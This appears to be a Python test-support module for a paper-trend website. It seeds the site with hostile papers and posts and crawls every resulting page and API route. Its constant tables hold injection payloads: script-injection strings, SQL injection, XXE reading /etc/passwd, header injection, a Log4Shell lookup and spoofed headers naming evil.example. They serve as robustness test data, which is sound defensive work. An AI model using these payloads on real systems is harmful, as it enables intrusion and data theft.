"""What others may write, to put wherever something comes from outside."""

from collections.abc import Iterator
from dataclasses import replace
from urllib.parse import quote

from httpx2 import Response

from tests.web.every import is_page
from tests.web.visitors import Page, Visitor
from tests.web.world import FRIDAY, a_paper, fill, posts_about
from trendbot.model import Cadence, Paper, Post

TEXTS = (
    "<script>alert(1)</script>",
    "</script></style></title></textarea><script>alert(2)</script>",
    "\"'><img src=x onerror=alert(3)>",
    "' autofocus onfocus='alert(4)' x='",
    "<svg/onload=alert(5)><math><mtext><style><img src onerror=alert(5)></style>",
    "<!--<a href='--><img src=x onerror=alert(6)>'>",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(8)'><form action=//evil.example>",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(9)</x:script><![CDATA[",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e; &#0; &#x1F; &bogus; &",
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7} {{''.__class__}} %s %(x)s {0} {x!r}",
    "javascript:alert(10) data:text/html,<script>alert(10)</script> vbscript:x //evil.example/",
    'see https://evil.example/"onmouseover=alert(11) and http://a@b@evil.example:99999/<x>',
    "\u202ereversed\u2066 \u200b\u2060\ufeff soft\u00adhyphen \u2028line\u2029paragraph",
    "\x00\x01\x08\x0b\x0c\x1b[31m\x7f\x85\x9f \ufffe\uffff \ud800 \udfff\ud800",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(12)</script>",
    "' OR 1=1; DROP TABLE papers; -- \" NEAR(a, 1) title:* AND NOT ( ^ * -",
    "$\\input{/etc/passwd}$ \\href{javascript:alert(13)}{x} $\\frac{1}{$ \\def\\x{\\x\\x}\\x $$$$",
    "Z̸̢̛͇a̵l̴g̷o̶ " + "\u0301" * 300 + " 👩‍🔬🏳️‍🌈 مرحبا שלום",
    "owl" * 34_000,
    "<b>" * 20_000,
    "& " * 3_000,
    "",
    " \t\n\u3000 ",
)
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https://",
    "http://[::1",
    "https://user:password@evil.example/",
    'https://x.com/"onmouseover="alert(1)',
    "https://x.com/<script>alert(1)</script>",
    "https://x.com/a b\r\nSet-Cookie: a=b",
    "https://x.com/\u202egnp.exe",
    "https://éxample.example/",
    "https://x.com/" + "a" * 100_000,
    "ftp://evil.example/",
    "file:///etc/passwd",
    "mailto:eve@evil.example",
    "",
)
HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"host", b"evil.example"),
    (b"host", b"evil.example:99999/<script>"),
    (b"host", b""),
    (b"x-forwarded-host", b"evil.example"),
    (b"x-forwarded-proto", b"javascript"),
    (b"x-forwarded-for", b"203.0.113.7, <script>, \xff"),
    (b"x-forwarded-prefix", b"//evil.example"),
    (b"forwarded", b"for=evil;host=evil.example"),
    (b"x-original-url", b"/metrics"),
    (b"x-http-method-override", b"DELETE"),
    (b"accept-encoding", b"gzip;q=nan, *;q=1e999, br;;;,\xff"),
    (b"if-none-match", b'W/"x", *, "' + b"a" * 4_000),
    (b"if-none-match", b'"\xff\xfe'),
    (b"if-modified-since", b"yesterday, or so"),
    (b"range", b"bytes=0-0,-1,9999999999999-"),
    (b"cookie", b"a=" + b"b" * 8_000),
    (b"cookie", b"\xff\xfe=\x01; ;;=;"),
    (b"accept", b"application/<script>"),
    (b"accept-language", b"../../etc/passwd"),
    (b"user-agent", b"\xe2\x80\xae<script>alert(1)</script>{{7*7}}${jndi:ldap://evil.example/a}"),
    (b"authorization", b"Basic \xff"),
    (b"origin", b"null"),
    (b"referer", b"https://evil.example/<script>"),
    (b"content-type", b"multipart/form-data; boundary=" + b"x" * 2_000),
    (b"content-type", b"application/x-www-form-urlencoded; charset=utf-7"),
    (b"content-type", b"\xff"),
    (b"sec-fetch-site", b"nowhere"),
)


def fill_with_hostility(visitor: Visitor) -> None:
    """Store papers and posts that say each of it, wherever they can say something."""
    shown, about = [], list[Post]()
    for number, text in enumerate(TEXTS, 1):
        paper = hostile_paper(number, text)
        url = URLS[number % len(URLS)]
        shown.append(paper)
        about += posts_about(paper, f"{text} {paper.links['abs']} {url}", text, url)
    fill(visitor.engine, shown, about)


def hostile_paper(number: int, text: str) -> Paper:
    """A paper that says `text` wherever it can."""
    return replace(
        a_paper(number),
        title=text,
        authors=(text, "Ada Moreno", text) if number % 2 else (text,) * 40,
        abstract=text * 2,
        comments=text,
        categories=(
            "cs.LG",
            text[:40].encode("utf-8", "replace").decode().replace("\0", "") or "x",
        ),
        links={"abs": URLS[number % len(URLS)], "pdf": URLS[-number % len(URLS)], text[:20]: text},
    )


def to_ask() -> list[str]:
    """Where all of it is shown, but for what links lead to; and what is asked with it."""
    feeds = [f"/feeds/{cadence}" for cadence in Cadence] + ["/feeds/daily/cs.LG"]
    asked = [quote(text[:200], errors="replace") for text in TEXTS]
    return [
        "/",
        "/sitemap.xml",
        "/api/digests",
        f"/api/digests/daily/{FRIDAY}",
        f"/api/daily_papers?date={FRIDAY}",
        *(f"{feed}.{form}" for feed in feeds for form in ("atom", "rss", "json")),
        *(f"/api/papers/2611.{number:05}" for number in range(1, len(TEXTS) + 1)),
        *(f"/search?q={text}" for text in asked if "%00" not in text),
        *(f"/api/search?q={text}" for text in asked if "%00" not in text),
    ]


def everything_shown(visitor: Visitor) -> dict[str, Response]:
    """All that is shown, by path: what is asked, and whatever links of the pages lead to."""
    found: dict[str, Response] = {}
    waiting = to_ask()
    while waiting:
        path = waiting.pop()
        found[path] = visitor.get(path)
        waiting += [one for one in dict.fromkeys(_led_to(found[path])) if one not in found]
    return found


def _led_to(answer: Response) -> Iterator[str]:
    if is_page(answer):
        for said in Page(answer.text).all("a"):
            path = (said["href"] or "").partition("#")[0]
            if path.startswith("/") and not path.startswith("/categories/"):
                yield path
